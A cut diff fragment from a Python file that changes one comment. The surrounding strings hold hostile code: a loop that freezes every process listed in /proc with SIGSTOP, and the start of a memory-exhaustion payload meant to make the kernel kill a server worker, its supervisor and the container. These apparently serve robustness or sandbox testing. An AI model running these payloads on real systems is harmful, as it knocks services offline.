@@ -18,7 +18,7 @@ for process in filter(str.isdigit, os.listdir("/proc")):
         os.kill(int(process), signal.SIGSTOP)
         print(process)
 """
-# Many small ones, so that the kernel takes the largest: a server worker, then the supervisor, and with it the container.
+# Many small ones, so that the kernel takes the largest: a server worker, then the supervisor and the container with it.
 EAT = """
 import os, time
 for _ in range(60):
